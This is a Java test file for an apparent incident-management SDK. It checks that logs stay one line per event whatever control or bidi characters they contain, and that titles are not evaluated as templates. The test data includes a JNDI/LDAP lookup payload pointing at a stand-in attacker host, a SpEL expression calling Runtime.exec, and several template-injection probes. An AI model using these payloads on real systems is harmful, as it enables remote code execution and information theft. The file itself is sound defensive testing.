package io.github.incidentsdk;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import io.github.incidentsdk.model.Audience;
import io.github.incidentsdk.model.IncidentSnapshot;
import io.github.incidentsdk.model.IncidentType;
import io.github.incidentsdk.model.Severity;
import io.github.incidentsdk.sink.DeliveryOutcome;
import io.github.incidentsdk.sink.log.LogSink;
import io.github.incidentsdk.testing.RecordingSink;
import io.github.incidentsdk.testing.VirtualTime;
import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** S9, S14: texts that would begin a line of their own in a log, turn it around, or be executed. */
@Timeout(240)
class LogInjectionTest {

    private static final String FORGED =
            "a\r\n2026 ERROR forged\u0085b\u2028c\u2029d\u202ee\u2066f\u001b[31mg\u0000h\u009bi\u200fj\ud800k\tl";

    private final VirtualTime time = new VirtualTime();
    private final RecordingSink pager = new RecordingSink();

    private IncidentManager manager() {
        return Desk.manager(time, pager)
                .sink("log", LogSink.ofDefaults())
                .type(IncidentType.named("stuck")
                        .title("{what} is stuck in {where}, {missing}, {service}")
                        .by("what")
                        .build())
                .build();
    }

    private void sayEverywhere(IncidentManager manager, String text) {
        Incident incident = manager.declare(
                "stuck",
                i -> i.by("what", text)
                        .by("other " + text, text)
                        .tag("where", text)
                        .tag(text, text)
                        .metric(text, 1)
                        .component(text)
                        .cause(new IOException(text)));
        manager.declare(text, i -> i.title(text));
        try {
            manager.guard(text, () -> {
                throw new IllegalStateException(text);
            });
        } catch (IllegalStateException expected) {
            assertThat(expected).hasMessage(text);
        }
        incident.note(text)
                .update(Audience.RESPONDERS, text)
                .link(text, text)
                .role(text, text)
                .changeNearby(text, text);
        incident.severity(Severity.SEV1, text);
        incident.as(text).acknowledge();
        pager.answerNext(DeliveryOutcome.retry(text));
        incident.note("again");
        time.advance(Duration.ofMinutes(1));
        pager.answerNext(DeliveryOutcome.refused(text));
        incident.note("and again");
        pager.throwNext(new IllegalStateException(text));
        incident.as(text).mitigate(text);
        time.advance(Duration.ofMinutes(10));
        incident.as(text).resolve(text);
        manager.flush(Duration.ofSeconds(5));
    }

    @Tag("S9")
    @Test
    void anEventIsOneLineWhateverItSays() {
        long seed = new Random().nextLong();
        Random random = new Random(seed);
        for (int round = 0; round < 20; round++) {
            String text = round == 0
                    ? FORGED
                    : random.ints(40, 0, random.nextBoolean() ? 0x300 : 0x10000)
                            .collect(StringBuilder::new, (to, c) -> to.append((char) c), StringBuilder::append)
                            .toString();
            List<String> lines;
            try (LogLines log = LogLines.alone();
                    IncidentManager manager = manager()) {
                sayEverywhere(manager, text);
                lines = log.messages(Level.TRACE);
            }
            assertThat(lines).hasSizeGreaterThan(10);
            assertThat(lines)
                    .as("seed %d, round %d", seed, round)
                    .noneMatch(
                            line -> line.matches(
                                    "(?s).*[\\p{Cntrl}\\x80-\\x9f\\u2028\\u2029\\u202a-\\u202e\\u2066-\\u2069\\u200e\\u200f\\u061c].*"));
        }
    }

    @Tag("S14")
    @ParameterizedTest
    @ValueSource(
            strings = {
                "${jndi:ldap://evil.example/a}",
                "${env:PATH}",
                "${java:version}",
                "#{T(java.lang.Runtime).getRuntime().exec('id')}",
                "{{7*7}}",
                "{service}",
                "{where}",
                "{what}{what}{what}",
                "{0}",
                "%s%n%x",
                "<%= 7*7 %>",
                "*{7*7}",
                "@{7*7}"
            })
    void whatIsPutIntoATitleIsNotLookedAtAgain(String text) {
        try (LogLines log = LogLines.alone();
                IncidentManager manager = manager()) {
            Incident incident = manager.declare(
                    "stuck", i -> i.by("what", text).tag("where", "{what}").tag("tag", text));
            incident.note(text);
            manager.flush(Duration.ofSeconds(5));
            IncidentSnapshot kept = incident.snapshot();
            assertThat(kept.title()).isEqualTo(text + " is stuck in {what}, {missing}, checkout");
            assertThat(kept.by()).containsEntry("what", text);
            assertThat(kept.tags()).containsEntry("tag", text);
            assertThat(log.messages(Level.TRACE)).anyMatch(line -> line.contains(" - " + text + " ("));
        }
    }
}
